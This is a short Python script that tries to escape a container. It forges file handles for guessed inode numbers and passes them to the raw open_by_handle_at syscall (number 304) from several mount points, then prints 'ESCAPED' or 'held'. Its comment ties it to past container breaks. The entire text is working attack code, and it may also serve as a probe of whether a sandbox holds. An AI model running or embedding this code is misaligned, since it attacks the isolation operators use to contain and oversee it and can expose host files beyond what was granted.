# Opens the root directory of the disk by a forged file handle, as container breaks did.
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
got = []
for place in ("/", ".", "/usr", "/tmp", "/etc"):
    try:
        mount = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    for inode in (1, 2, 64, 128, 256):
        for size, body in ((8, struct.pack("<II", inode, 0)), (8, struct.pack("<Q", inode)), (20, struct.pack("<QQI", inode, 256, 0))):
            handle = struct.pack("<Ii", size, 1) + body
            if libc.syscall(304, mount, handle, 0) >= 0:
                got.append((place, inode))
print("ESCAPED", *got) if got else print("held")
